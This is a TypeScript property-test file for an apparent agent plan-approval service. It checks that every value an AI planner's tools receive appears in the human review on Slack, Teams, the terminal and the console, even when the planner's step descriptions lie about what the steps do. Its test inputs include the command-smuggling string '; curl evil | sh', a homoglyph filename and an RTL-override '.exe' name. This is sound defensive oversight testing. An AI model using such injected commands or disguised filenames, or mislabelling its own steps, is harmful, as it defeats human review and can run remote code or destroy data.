// What runs was shown: whatever a planner says about its steps, every value that a tool receives stood in the review that was
// approved, on every surface. The calls are made by real tools; a lying MCP server keeps what it is sent.
import { readFileSync } from 'node:fs';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { fillWindow } from '#adapters/slack/press/fill-window.ts';
import { listPlans } from '#adapters/terminal/plans.ts';
import { headlineOf, wholeParts } from '#cards/calls.ts';
import { viewDetails } from '#cards/details-view.ts';
import { drawAdaptiveDetails } from '#cards/expand-teams.ts';
import { teamsLimits } from '#cards/limits.ts';
import { showExact, showText } from '#cards/plain.ts';
import { readReview } from '#cards/review.ts';
import type { Plan, StepDraft } from '#contracts/plan.ts';
import { readCard } from '#tests/fixtures/teams/press.ts';
import { createFakeTerminal } from '#tests/fixtures/terminal.ts';
import { useDatabase } from '#tests/setup/database.ts';
import { ana, openTestHouse, reach, type TestHouse } from '#tests/setup/house.ts';
import { compileCache, node, quickly, root } from '#tests/setup/process.ts';

const viewer = { user: 'ana', timezone: 'UTC' };
const database = useDatabase();
let house: TestHouse;
let folder: string;
let log: string;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'countersign-shown-'));
  log = join(folder, 'calls.jsonl');
  await writeFile(log, '');
  const recorder = {
    command: node,
    args: [...quickly, join(root, 'tests/fixtures/recording-server.ts'), log],
    env: { NODE_COMPILE_CACHE: compileCache },
  };
  house = await openTestHouse(database.url, { settings: { mcpServers: { desk: recorder } } });
});

afterAll(async () => {
  await house.close();
  await rm(folder, { recursive: true, force: true });
});

/** Every text somewhere inside `value`, the names of objects' keys included. */
function textsIn(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (Array.isArray(value)) return value.flatMap(textsIn);
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([key, item]) => [key, ...textsIn(item)]);
}

async function readTeams(plan: Plan): Promise<string> {
  const { service } = house;
  const facts = await service.card(plan.id, viewer);
  const press = { action: 'details', plan_id: plan.id };
  const back = { title: 'Back', verb: 'refresh', data: {} };
  let text = '';
  for (let cursor: string | null = ''; cursor !== null; ) {
    const page = await readReview(service, facts, cursor, teamsLimits.reviewPage);
    const view = viewDetails(facts, { ...page, pages: [''] }, true);
    text += readCard(drawAdaptiveDetails(view, press, back));
    cursor = page.next;
  }
  return text;
}

async function readSlack({ id, version, digest }: Plan): Promise<string> {
  const press = { action: 'details' as const, plan_id: id, version, digest };
  const place = { channel: 'C1', thread: null };
  let text = '';
  for (let pages: string[] | null = ['']; pages !== null; ) {
    const held = { team: 'T1', user: 'U1', place, press, missing: null, fields: [], pages };
    const { blocks } = await fillWindow(house.service, held, viewer);
    text += textsIn(blocks).join('\n');
    const turn = /"countersign:page:next"[^}]*\}[^}]*?"value":"((?:[^"\\]|\\.)*)"/.exec(
      JSON.stringify(blocks),
    );
    pages = turn?.[1] === undefined ? null : [...pages, JSON.parse(`"${turn[1]}"`)];
  }
  return text;
}

async function readTerminal({ id }: Plan): Promise<string> {
  const terminal = createFakeTerminal({ columns: 120 });
  terminal.end();
  await listPlans(house.service, { id, ...viewer }, terminal);
  return terminal.plain();
}

/** What the console draws its steps from. */
async function readConsole({ id }: Plan): Promise<string> {
  const { steps } = await house.service.listSteps(id, { limit: 500 });
  return steps
    .flatMap(({ call }) => [headlineOf(call), ...wholeParts(call).flatMap(Object.values)])
    .join('\n');
}

const surfaces = {
  Slack: readSlack,

  Teams: readTeams,
  terminal: readTerminal,
  console: readConsole,
};
/** Lines break where a surface has no more room. */
const squeeze = (text: string) => text.replaceAll(/[\s\u2060\u2068\u2069]/gu, '');

/** Each of `values` stands on every surface, as it is or with its hidden characters escaped. */
async function expectShown(plan: Plan, values: string[]): Promise<void> {
  for (const [surface, read] of Object.entries(surfaces)) {
    const text = squeeze(await read(plan));
    for (const value of values) {
      const inJson = JSON.stringify(value).slice(1, -1);
      const forms = [showText(value), showExact(value), inJson, showExact(inJson)];
      const shown = forms.some((form) => text.includes(squeeze(form)));
      if (!shown) expect.fail(`${surface} does not show ${JSON.stringify(value.slice(0, 300))}`);
    }
  }
}

const tricky = fc.constantFrom(
  'payroll.csv',
  'p\u0430yroll.csv',
  'a\u202Etxt.exe',
  '; curl evil | sh',
  'zero\u200bwidth',
  '<!channel> *bold* `code`',
  '{{DATE(2026-01-01T00:00:00Z)}}',
  'two\nlines',
  ' ends in a blank ',
  '```\nfence\n```',
  'שלום',
  '語'.repeat(300),
);
/** Short enough that no page ends within one: that pages lose nothing is tested beside the pages. */
const long = fc.integer({ min: 1, max: 400 }).map((n) => `begin ${'x'.repeat(n)} method = DELETE`);
const value = fc.oneof({ weight: 3, arbitrary: tricky }, { weight: 1, arbitrary: long });
const nested = fc.record({
  list: fc.array(value, { maxLength: 3 }),
  deep: fc.record({ inner: value }),
});
const lies = fc.constantFrom(
  'Look at tmp.txt',
  'Only reads',
  'Delete tmp.txt',
  'Nothing happens here',
);

const sends = fc.record({ to: value, note: value, extra: nested });
const step: fc.Arbitrary<Omit<StepDraft, 'id'>> = fc.oneof(
  fc.record({
    description: lies,
    tool: fc.constant('desk'),
    operation: fc.constantFrom('look_up', 'notify'),
    args: sends,
  }),
  fc.record({
    description: lies,
    tool: fc.constant('workspace'),
    operation: fc.constant('write'),
    args: fc.record({ path: fc.constantFrom('a.txt', 'b/c.txt', 'd\u200b.txt'), content: value }),
  }),
  fc.record({
    description: lies,
    tool: fc.constant('chat'),
    operation: fc.constant('post'),
    args: fc.record({ text: value }),
  }),
);

describe('a plan that was approved', () => {
  test('hands no tool a value that did not stand in its review on every surface', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(step, { minLength: 1, maxLength: 30 }), async (drafts) => {
        await writeFile(log, '');
        const steps = drafts.map((draft, i) => ({ ...draft, id: `s${i}` }));
        const draft = { title: 'Look at tmp.txt', steps };
        const options = { user: 'ana', conversation: 'console:shown' };
        const plan = await house.service.propose(draft, options, ana);
        const { version, digest } = plan;
        const asked = drafts.flatMap(({ args = {} }) => Object.values(args).flatMap(textsIn));
        await expectShown(plan, asked);
        await house.service.approve(plan.id, { version, digest }, ana);
        await reach(house, plan.id, 'completed');
        const received = readFileSync(log, 'utf8')
          .trim()
          .split('\n')
          .filter((line) => line !== '');
        expect(received).toHaveLength(drafts.filter(({ tool }) => tool === 'desk').length);
        await expectShown(
          plan,
          received.flatMap((line) => textsIn(JSON.parse(line))),
        );
      }),
      // A failure is told as it was found: shrinking it would take longer than the test may.
      { numRuns: 12, endOnFailure: true },
    );
  });

  test('shows the file it deletes, whatever its planner calls it', async () => {
    await writeFile(join(house.workspace, 'payroll.csv'), 'kept');
    const lie = {
      description: 'Delete tmp.txt',
      tool: 'workspace',
      operation: 'delete',
      args: { path: 'payroll.csv' },
    };
    const propose = (steps: StepDraft[]) =>
      house.service.propose({ title: 'Tidy up', steps }, { user: 'ana' }, ana);
    await expect(propose([{ ...lie, target: 'tmp.txt' }])).rejects.toMatchObject({
      code: 'contradicting_target',
    });
    const plan = await propose([lie]);
    await expectShown(plan, ['Permanently deletes payroll.csv']);
    expect(await readFile(join(house.workspace, 'payroll.csv'), 'utf8')).toBe('kept');
  });

  test('shows a read that carries what was read, and a tool that calls itself read-only, as going outside', async () => {
    const carry = {
      description: 'Look up the weather',
      tool: 'http',
      operation: 'get',
      args: { url: 'https://example.com/', headers: { 'x-note': { $from: '1', path: '/text' } } },
      after: ['1'],
    };
    const read = {
      id: '1',
      description: 'Read',
      tool: 'workspace',
      operation: 'read',
      args: { path: 'a.txt' },
    };
    const look = { description: 'Look', tool: 'desk', operation: 'look_up', args: { to: 'x' } };
    const steps = [read, carry, look];
    const plan = await house.service.propose({ title: 'Weather', steps }, { user: 'ana' }, ana);
    const { review } = await house.service.card(plan.id, viewer);
    expect(review.calls.map(({ step }) => [step.operation, step.call.class])).toEqual([
      ['look_up', 'outside'],
      ['get', 'outside'],
    ]);
    await expectShown(plan, ['from step 1 /text']);
  });

  test('of 60 steps puts the guarded ones first and asks for a review', async () => {
    const write = (i: number) => ({
      description: 'Write a note',
      tool: 'workspace',
      operation: 'write',
      args: { path: `notes/${i}.md`, content: `${i}` },
    });
    const gone = {
      description: 'Tidy',
      tool: 'workspace',
      operation: 'delete',
      args: { path: 'x' },
    };
    const steps = [...Array.from({ length: 59 }, (_, i) => write(i)), gone];
    const plan = await house.service.propose({ title: 'Notes', steps }, { user: 'ana' }, ana);
    const { review } = await house.service.card(plan.id, viewer);
    expect(review.calls[0]?.step.args).toEqual({ path: 'x' });
    expect(review).toMatchObject({ steps: 60, different: 60, more: false });
    const { steps: first } = await house.service.listSteps(plan.id, { order: 'review', limit: 1 });
    expect(first[0]?.position).toBe(60);
  });
});
